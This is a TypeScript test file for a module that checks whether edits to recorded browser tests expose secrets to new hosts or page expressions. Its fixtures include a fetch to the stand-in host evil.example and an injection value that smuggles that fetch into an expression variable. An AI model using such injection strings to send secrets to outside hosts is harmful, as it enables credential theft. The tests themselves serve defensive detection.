import { describe, expect, test } from 'bun:test'
import { beyondReach, checkSecretHosts, secretHostOf, secretReach } from './secret-reach.ts'

const TYPE = { type: 'change', selectors: ['#pass'], value: '{{password}}' }
const open = (url: string, more: object = {}) => ({ type: 'navigate', url, ...more })
const waitFor = (expression: string) => ({ type: 'waitForExpression', expression })
const BASE = {
  recording: { title: 'Buy', steps: [open('https://shop.example/'), TYPE] },
  startUrl: null as string | null,
  secretHosts: [] as string[],
}
const VALUES = {
  variables: { path: 'a', host: 'shop.example' },
  secrets: { password: 'p', base: 'https://in.example' },
}
type Change = Partial<typeof BASE> & { steps?: object[]; variables?: Record<string, string> }

const reachOf = ({ steps, variables, ...change }: Change) => {
  const recording = { title: 'Buy', steps: (steps ?? BASE.recording.steps) as { type: string }[] }
  return secretReach({ ...BASE, recording, ...change }, { ...VALUES, variables: { ...VALUES.variables, ...variables } })
}

describe('the secret hosts of a test', () => {
  test.each<[string, Change, string[]]>([
    ['the first page', {}, ['shop.example']],
    ['a host with www. is the same host', { steps: [open('https://www.shop.example/')] }, ['shop.example']],
    ['a port makes another host', { steps: [open('http://shop.example:8080/')] }, ['shop.example:8080']],
    [
      'the start page and that of the recording',
      { startUrl: 'https://next.example/' },
      ['shop.example', 'next.example'],
    ],
    [
      'a recorded page',
      {
        steps: [
          open('https://shop.example/', { assertedEvents: [{ type: 'navigation', url: 'https://login.example/' }] }),
        ],
      },
      ['shop.example', 'login.example'],
    ],
    [
      'a tab or frame',
      { steps: [open('https://shop.example/'), { ...TYPE, target: 'https://pay.example/card' }] },
      ['shop.example', 'pay.example'],
    ],
    ['a variable', { steps: [open('https://{{host}}/{{path}}')] }, ['shop.example']],
    ['a secret', { steps: [open('{{base}}/x')] }, ['in.example']],
    [
      'named hosts',
      { secretHosts: ['Login.Shop.Example', '[::1]:8080'] },
      ['shop.example', 'login.shop.example', '[::1]:8080'],
    ],
    [
      'unusual recordings',
      { steps: [open('https://shop.example/', { assertedEvents: [null, 3, { url: 7 }], target: 'main' })] },
      ['shop.example'],
    ],
  ])('are correct for the case: %s', (_what, change, hosts) => {
    expect([...reachOf(change).hosts]).toEqual(hosts)
  })
})

test.each<[string, Change, Change, RegExp | null]>([
  ['nothing new', {}, { variables: { path: 'b' } }, null],
  ['one host fewer', { startUrl: 'https://next.example/' }, {}, null],
  ['another start page', {}, { startUrl: 'https://evil.example/' }, /evil\.example/],
  ['the same host on another port', {}, { startUrl: 'https://shop.example:8443/' }, /shop\.example:8443/],
  ['a host with the same ending', {}, { startUrl: 'https://evil-shop.example/' }, /evil-shop\.example/],
  ['a subdomain', {}, { startUrl: 'https://x.shop.example/' }, /x\.shop\.example/],
  ['a user name that looks like a host', {}, { startUrl: 'https://shop.example@evil.example/' }, /evil\.example/],
  ['a host in secretHosts', {}, { secretHosts: ['evil.example'] }, /evil\.example/],
  [
    'a variable',
    { steps: [open('https://{{host}}/')] },
    { steps: [open('https://{{host}}/')], variables: { host: 'evil.example' } },
    /evil\.example/,
  ],
  [
    'an expression',
    {},
    { steps: [open('https://shop.example/'), TYPE, waitFor('fetch("//evil.example")')] },
    /waitForExpression/,
  ],
  [
    'a variable in an expression',
    { steps: [open('https://shop.example/'), waitFor('a == "{{path}}"')] },
    {
      steps: [open('https://shop.example/'), waitFor('a == "{{path}}"')],
      variables: { path: '"+fetch("//evil.example")+"' },
    },
    /waitForExpression/,
  ],
  [
    'the same expression',
    { steps: [open('https://shop.example/'), waitFor('a')] },
    { steps: [waitFor('a'), open('https://shop.example/')] },
    null,
  ],
])('whether a change exposes secrets to more hosts or expressions: %s', (_what, before, after, reason) => {
  const found = beyondReach(reachOf(before), reachOf(after))
  if (reason === null) expect(found).toBeNull()
  else expect(found).toMatch(reason)
})

test.each(['', 'https://shop.example', 'shop.example/a', 'a b', 'me@shop.example', 'a?b', 'shop.example:99999', '\\x'])(
  '%p is not a valid host for secrets',
  (text) => {
    expect(() => checkSecretHosts(['shop.example', text])).toThrow('secretHosts[1]: must be a host name')
  },
)

test('values that are not web URLs have no host', () => {
  for (const address of ['about:blank', 'data:text/html,x', 'file:///etc/passwd', 'nonsense', '']) {
    expect(secretHostOf(address)).toBeNull()
  }
})
